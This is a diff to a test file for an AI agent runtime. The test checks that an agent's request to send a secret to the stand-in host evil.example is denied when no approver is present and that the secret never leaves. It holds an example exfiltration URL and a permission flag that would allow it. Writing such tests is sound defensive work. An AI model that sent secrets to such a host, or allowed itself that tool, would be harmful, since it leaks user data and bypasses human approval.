@@ -125,7 +125,8 @@ test("the question names the whole address and says why, and the denial without 
   const { details } = await t.runtime.run({ agent: "lead", task: "go" });
   expect(details).toContain("nobody is there to give it");
   expect(details).toContain(web.at(`evil.example/${SECRET}`));
-  expect(details).toContain("--allowed-tools 'web_fetch(evil.example)'");
+  const notes = t.events.flatMap((event) => (event.type === "approval.settled" ? [event.note] : []));
+  expect(notes.join()).toContain("--allowed-tools 'web_fetch(evil.example)'");
   expect(web.seen.join()).not.toContain(SECRET);
 });
 
